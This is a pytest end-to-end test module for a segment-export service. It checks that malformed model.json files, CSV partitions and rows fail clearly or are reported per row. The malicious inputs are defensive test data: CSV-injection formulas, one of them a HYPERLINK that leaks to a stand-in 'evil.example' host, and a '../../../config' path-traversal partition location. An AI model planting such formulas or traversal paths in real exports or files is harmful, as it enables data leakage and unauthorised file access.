"""Bad segment exports, end to end: each bad export's run fails alone with a clear reason, or reports the bad
rows and delivers the rest, while a good export runs to success in the same stack at the same time.

Every case is an export of its own with its own snapshot root.  The module starts every run
at once (the good export's too) and waits for all of them; each test then checks one case.
"Clear" means: the run ended Failed through a deliberate error whose message names what to
fix, never through the poison queue ("planning failed on every delivery attempt") after an
unhandled exception.
"""

from __future__ import annotations

import asyncio
import csv
import io
import sys
from collections.abc import AsyncIterator
from dataclasses import dataclass, field
from typing import Any, cast

import pytest
import pytest_asyncio

from local.sample_data import Oracle, SampleOptions, generate, oracle, write_snapshot
from tests.badinput.conftest import FOLDER, SEGMENT, csv_settings, model_json, put_files
from tests.e2e.stack import Stack

pytestmark = pytest.mark.asyncio(loop_scope="package")

HEADER = b"Email,FirstName\n"
CSV_1 = f"{FOLDER}/{SEGMENT}_1.csv"
CSV_2 = f"{FOLDER}/{SEGMENT}_2.csv"
MEGABYTE = 1024 * 1024
TEMP_LIST = 2  # created for one case and deleted after its export is saved
GOOD_LIST = 3  # the good export's own list: its members are exactly the good sample's


def rows(prefix: str, n: int = 2) -> bytes:
    return b"".join(f"{prefix}{i}@example.com,{prefix.title()}{i}\n".encode() for i in range(1, n + 1))


@dataclass(frozen=True)
class Case:
    id: str
    files: dict[str, bytes]
    fails_with: tuple[str, ...] = ()  # the run is Failed and its error message says all of these
    export: dict[str, Any] = field(default_factory=dict)
    counts: dict[str, int] = field(default_factory=dict)  # for runs that finish: counts that must match
    report: tuple[tuple[int | str, str, str], ...] = ()  # (row, or email for rejected rows; outcome; words in reason)
    delivered: tuple[str, ...] = ()  # emails that must be in the list
    status: str = "Succeeded"


def ok_csv(prefix: str) -> dict[str, bytes]:
    return {"model.json": model_json(), CSV_1: HEADER + rows(prefix)}


FAILED = [
    Case("model-missing-and-no-data", {}, ("no snapshot of segment 'Seg'", "model.json is missing")),
    Case("model-empty", {"model.json": b"", CSV_1: HEADER + rows("a")}, ("model.json is empty",)),
    Case("model-whitespace", {"model.json": b" \r\n\t", CSV_1: HEADER + rows("a")}, ("model.json is empty",)),
    Case("model-corrupt", {"model.json": model_json()[:40]}, ("model.json is not valid JSON", "line 1")),
    Case("model-not-utf8", {"model.json": b'{"entities": ["\xff\xfe"]}'}, ("not valid JSON", "not UTF-8")),
    Case("model-not-cdm", {"model.json": b"[1, 2, 3]"}, ("has no 'entities' list", "not a CDM model.json")),
    Case("model-no-attributes", {"model.json": model_json(attributes=[])}, ("entity 'Seg' lists no attributes",)),
    Case(
        "model-attribute-twice",
        {"model.json": model_json(attributes=["Email", "FirstName", "EMAIL"])},
        ("lists an attribute name twice",),
    ),
    Case(
        "model-unknown-format",
        {"model.json": model_json(settings={"$type": "JsonFormatSettings"})},
        ("'JsonFormatSettings' is not supported",),
    ),
    Case(
        "model-bad-delimiter",
        {"model.json": model_json(settings=csv_settings(delimiter=";;")), CSV_1: HEADER},
        ("delimiter must be a single character",),
    ),
    Case(
        "model-unknown-encoding",
        {"model.json": model_json(settings=csv_settings(encoding="klingon-8")), CSV_1: HEADER},
        ("encoding 'klingon-8' is unknown",),
    ),
    Case(
        "partition-listed-but-missing",
        {"model.json": model_json(partitions=[CSV_1, CSV_2]), CSV_1: HEADER + rows("a")},
        ("lists partition", f"{CSV_2}", "does not exist"),
    ),
    Case(
        "partition-in-another-container",
        {
            "model.json": model_json(
                partitions=["https://devstoreaccount1.blob.core.windows.net/elsewhere/Seg/Seg_1.csv"]
            )
        },
        ("container 'elsewhere'", "SNAPSHOT_CONTAINER"),
    ),
    Case(
        "mapping-attribute-missing",
        ok_csv("b"),
        ("segment 'Seg' has no attribute 'Mobile'", "Email, FirstName", "Fix the export's mapping"),
        export={"mapping": {"email": "Email", "phone": "Mobile"}},
    ),
    Case("segment-missing", ok_csv("c"), ("no snapshot of segment 'Nope'",), export={"segments": ["Nope"]}),
    Case(
        "header-less-without-model",
        {CSV_1: rows("d")},
        ("is not a header row", "model.json does not describe segment 'Seg'"),
    ),
    Case(
        "corrupt-parquet",
        {"model.json": model_json(partitions=[f"{FOLDER}/Seg_1.parquet"]), f"{FOLDER}/Seg_1.parquet": b"PAR1junk"},
        ("Seg_1.parquet",),
    ),
    Case(
        "bytes-not-in-declared-encoding",
        {"model.json": model_json(settings=csv_settings(encoding="ascii")), CSV_1: HEADER + "é@x.com,É\n".encode()},
        ("is not valid ascii", "fix the encoding in model.json"),
    ),
    Case("list-deleted-after-save", ok_csv("f"), ("list 2 does not exist",), export={"listId": TEMP_LIST}),
]

KNOWN_CRASHES = [
    pytest.param(
        Case("model-nested-too-deeply", {"model.json": b"[" * 100_000}, ("model.json", "not valid JSON")),
        id="model-nested-too-deeply",
    ),
    pytest.param(
        Case(
            "model-nul-encoding",
            {"model.json": model_json(settings=csv_settings(encoding="utf\x008")), CSV_1: HEADER},
            ("encoding", "is unknown"),
        ),
        id="model-nul-encoding",
    ),
    pytest.param(
        Case(
            "location-bad-url",
            {"model.json": model_json(partitions=["https://[::1/Seg_1.csv"])},
            ("location", "is not a Blob Storage or Data Lake URL"),
        ),
        id="location-bad-url",
    ),
    pytest.param(
        Case(
            "location-dot-dot",
            {"model.json": model_json(partitions=["../../../config/exports/good.json"])},
            ("..", "Seg_1"),
        ),
        id="location-dot-dot",
    ),
]

ROW_CASES = [
    Case(
        "non-utf8-field",
        {
            "model.json": model_json(),
            CSV_1: HEADER + b"g1@example.com,Gail\ng2@example.com,G\xffil\ng3@example.com,Gus\n",
        },
        counts={"profilesRead": 3, "invalid": 1, "confirmed": 2},
        report=((2, "invalid", "field FirstName is not valid UTF-8"),),
        delivered=("g1@example.com", "g3@example.com"),
    ),
    Case(
        "ragged-rows",
        {
            "model.json": model_json(),
            CSV_1: HEADER + b"h1@example.com,Hal,extra\nh2@example.com,Hana\nh3@example.com\n",
        },
        counts={"profilesRead": 3, "invalid": 2, "confirmed": 1},
        report=((1, "invalid", "wrong number of fields (expected 2)"), (3, "invalid", "wrong number of fields")),
        delivered=("h2@example.com",),
    ),
    Case(
        "one-megabyte-name",
        {"model.json": model_json(), CSV_1: HEADER + b"i1@example.com," + b"N" * MEGABYTE + b"\ni2@example.com,Ida\n"},
        counts={"profilesRead": 2, "rejected": 1, "confirmed": 1},
        report=(("i1@example.com", "rejected", "larger than ActiveCampaign's 400 KB bulk-import request limit"),),
        delivered=("i2@example.com",),
        status="PartiallySucceeded",
    ),
    Case(
        "one-megabyte-email",
        {"model.json": model_json(), CSV_1: HEADER + b"j" * MEGABYTE + b"@example.com,Jo\nj2@example.com,Jan\n"},
        counts={"profilesRead": 2, "invalid": 1, "confirmed": 1},
        report=((1, "invalid", "longer than 254 characters"),),
        delivered=("j2@example.com",),
    ),
    Case(
        "whitespace-inside-emails",
        {
            "model.json": model_json(),
            CSV_1: HEADER + b"k1@exam\tple.com,Kim\nk 2@example.com,Kai\nk3@example.com,Kit\n",
        },
        counts={"profilesRead": 3, "invalid": 2, "confirmed": 1},
        report=((1, "invalid", "email contains a space"), (2, "invalid", "email contains a space")),
        delivered=("k3@example.com",),
    ),
    Case(
        "unclosed-quote-swallows-the-rest",
        {"model.json": model_json(), CSV_1: HEADER + b'"e1@example.com,Eve\ne2@example.com,Eve\n'},
        counts={"profilesRead": 1, "invalid": 1, "confirmed": 0},
        report=((1, "invalid", "row unreadable in bad/unclosed-quote-swallows-the-rest/Seg/"),),
    ),
    Case(
        "missing-and-blank-emails",
        {"model.json": model_json(), CSV_1: HEADER + b',Lou\n   ,Lea\n"",Lia\nl4@example.com,Lot\n'},
        counts={"profilesRead": 4, "invalid": 3, "confirmed": 1},
        report=((1, "invalid", "email is empty"), (2, "invalid", "email is empty"), (3, "invalid", "email is empty")),
        delivered=("l4@example.com",),
    ),
    Case(
        "empty-partition-among-others",
        {"model.json": model_json(partitions=[CSV_1, CSV_2]), CSV_1: b"", CSV_2: HEADER + rows("m")},
        counts={"profilesRead": 2, "confirmed": 2},
        delivered=("m1@example.com", "m2@example.com"),
    ),
]

EMPTY_SEGMENT = Case("empty-segment", {"model.json": model_json(), CSV_1: HEADER}, status="Skipped")
NUL_EMAIL = Case(
    "nul-inside-an-email",
    {"model.json": model_json(), CSV_1: HEADER + b"n\x001@example.com,Nat\nn2@example.com,Ned\n"},
    counts={"profilesRead": 2, "invalid": 1, "confirmed": 1},
    report=((1, "invalid", "email"),),
    delivered=("n2@example.com",),
)
# Customer data that a spreadsheet would evaluate (OWASP's CSV injection starts: = + - @ tab CR).
FORMULAS = (
    '=HYPERLINK("http://evil.example/?leak","open me")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+2",
    "\r=1+2",
)
FORMULA_CELLS = Case(
    "formula-cells",
    {
        "model.json": model_json(),
        CSV_1: HEADER
        + b"".join(b'"' + f.replace('"', '""').encode() + b'",Eve\n' for f in FORMULAS)
        + b"o1@example.com,Ola\n",
    },
    counts={"profilesRead": 7, "invalid": 6, "confirmed": 1},
    delivered=("o1@example.com",),
)
ALL = [
    *FAILED,
    *(cast(Case, p.values[0]) for p in KNOWN_CRASHES),
    *ROW_CASES,
    EMPTY_SEGMENT,
    NUL_EMAIL,
    FORMULA_CELLS,
]


@dataclass
class Outcomes:
    runs: dict[str, dict[str, Any]]
    reports: dict[str, list[dict[str, str]]]
    good: dict[str, Any]
    answer: Oracle


def export_name(case: Case) -> str:
    return f"bad-{case.id}"


async def save_export(stack: Stack, case: Case) -> None:
    body = {
        "connection": "ac",
        "listId": 1,
        "segments": [SEGMENT],
        "mapping": {"email": "Email", "firstName": "FirstName"},
        "schedule": "manual",
        "snapshotRoot": f"bad/{case.id}",
        **case.export,
    }
    status, answer = await stack.call("PUT", f"/exports/{export_name(case)}", body)
    assert status == 201, (case.id, answer)  # saved before its snapshot exists: only a warning


@pytest_asyncio.fixture(scope="module", loop_scope="package")
async def outcomes(bad_stack: Stack) -> AsyncIterator[Outcomes]:
    stack = bad_stack
    stack.emulator.state.add_list("Temporary", list_id=TEMP_LIST)
    stack.emulator.state.add_list("Good", list_id=GOOD_LIST)
    for case in ALL:
        await save_export(stack, case)
    stack.emulator.state.delete_list(TEMP_LIST)
    for case in ALL:
        await put_files(stack, f"bad/{case.id}", case.files)
    sample = generate(SampleOptions(profiles=400, seed=9, partitions=2))
    async with stack.container(stack.settings["SNAPSHOT_CONTAINER"]) as container:
        await write_snapshot(container, sample, root="good")
    good_body = {"listId": GOOD_LIST, "snapshotRoot": "good", "segments": ["ActiveCustomers"]}
    await stack.create_export("good", **good_body)

    names = ["good", *(export_name(c) for c in ALL)]
    run_ids = [await stack.start_run(name) for name in names]  # all in flight together
    finished = await asyncio.gather(*(stack.wait_run(n, r, timeout=180) for n, r in zip(names, run_ids, strict=True)))
    runs = dict(zip(names, finished, strict=True))
    reports = {n: await raw_report(stack, n, r["id"]) for n, r in runs.items() if r["status"] != "Failed"}
    yield Outcomes(runs, reports, runs.pop("good"), oracle(sample))


async def raw_report(stack: Stack, export: str, run_id: str) -> list[dict[str, str]]:
    """The report as any CSV reader sees it (no field-size limit: one case puts a 1 MB value in it)."""
    status, text = await stack.api.call("GET", f"/exports/{export}/runs/{run_id}/report")
    assert status == 200, text
    limit = csv.field_size_limit()
    csv.field_size_limit(sys.maxsize)
    try:
        return list(csv.DictReader(io.StringIO(str(text))))
    finally:
        csv.field_size_limit(limit)


def check_failed_clearly(run: dict[str, Any], words: tuple[str, ...]) -> None:
    assert run["status"] == "Failed", run
    error = run["error"]
    assert error["code"] not in ("planning_failed", "finalize_failed"), error  # not an unhandled crash
    for word in words:
        assert word in error["message"], (word, error)
    assert run["counts"]["sent"] == 0


@pytest.mark.parametrize("case", FAILED, ids=[c.id for c in FAILED])
async def test_a_bad_snapshot_fails_its_run_alone_with_a_reason_naming_what_to_fix(
    outcomes: Outcomes, case: Case
) -> None:
    check_failed_clearly(outcomes.runs[export_name(case)], case.fails_with)


@pytest.mark.parametrize("case", KNOWN_CRASHES)
async def test_known_crashes_fail_the_run_clearly(outcomes: Outcomes, case: Case) -> None:
    check_failed_clearly(outcomes.runs[export_name(case)], case.fails_with)


def check_rows(outcomes: Outcomes, stack: Stack, case: Case) -> None:
    run = outcomes.runs[export_name(case)]
    assert run["status"] == case.status, run
    counts = run["counts"]
    assert {k: counts[k] for k in case.counts} == case.counts
    outcome_keys = ("invalid", "duplicates", "unchanged", "optedOut", "confirmed", "rejected", "notSent")
    assert sum(counts[k] for k in outcome_keys) == counts["profilesRead"]  # every row has exactly one outcome
    report = outcomes.reports[export_name(case)]
    got = sorted((int(r["row"]) if r["row"] else r["email"], r["outcome"], r["reason"]) for r in report)
    assert len(got) == len(case.report), got
    for (where, outcome, reason), (want_where, want_outcome, words) in zip(got, sorted(case.report), strict=True):
        assert (where, outcome) == (want_where, want_outcome) and words in reason, (where, outcome, reason)
    members = stack.members(1)
    assert all(email in members for email in case.delivered), case.delivered


@pytest.mark.parametrize("case", ROW_CASES, ids=[c.id for c in ROW_CASES])
async def test_bad_rows_are_reported_per_row_and_the_others_are_delivered(
    outcomes: Outcomes, bad_stack: Stack, case: Case
) -> None:
    check_rows(outcomes, bad_stack, case)


async def test_an_email_with_a_control_character_is_invalid_and_never_sent(
    outcomes: Outcomes, bad_stack: Stack
) -> None:
    check_rows(outcomes, bad_stack, NUL_EMAIL)


async def test_report_cells_that_a_spreadsheet_would_evaluate_are_neutralised(outcomes: Outcomes) -> None:
    # the report the run wrote, downloaded through the API and read by a CSV reader
    report = outcomes.reports[export_name(FORMULA_CELLS)]

    # each formula comes back as text: the (trimmed) email behind a single quote, whatever CSV quoting it needed
    emails = sorted(r["email"] for r in report)
    assert emails == sorted("'" + f.strip() for f in FORMULAS), emails
    # and no cell of the report starts like a formula
    assert not [v for r in report for v in r.values() if v[:1] in ("=", "+", "-", "@", "\t", "\r")], report


async def test_an_empty_segment_is_skipped_with_a_reason(outcomes: Outcomes) -> None:
    run = outcomes.runs[export_name(EMPTY_SEGMENT)]
    assert run["status"] == "Skipped", run
    assert run["counts"]["profilesRead"] == 0 and run["reason"], run


async def test_an_empty_segment_ends_without_sending_anything(outcomes: Outcomes) -> None:
    run = outcomes.runs[export_name(EMPTY_SEGMENT)]
    assert run["status"] in ("Succeeded", "Skipped") and run["error"] is None, run
    assert run["counts"]["profilesRead"] == run["counts"]["sent"] == 0


async def test_the_report_stays_readable_when_a_field_is_one_megabyte(outcomes: Outcomes) -> None:
    report = outcomes.reports[export_name(next(c for c in ROW_CASES if c.id == "one-megabyte-email"))]
    assert max(len(value) for row in report for value in row.values()) <= 32_767


async def test_the_good_export_succeeds_in_the_same_stack_at_the_same_time(
    outcomes: Outcomes, bad_stack: Stack
) -> None:
    good = outcomes.good
    assert good["status"] == "Succeeded", good
    assert set(bad_stack.members(GOOD_LIST)) == outcomes.answer.expected_set()
    assert good["counts"]["profilesRead"] == outcomes.answer.rows
    # the bad cases all ran while it did: every one of them reached a final status
    assert len(outcomes.runs) == len(ALL)
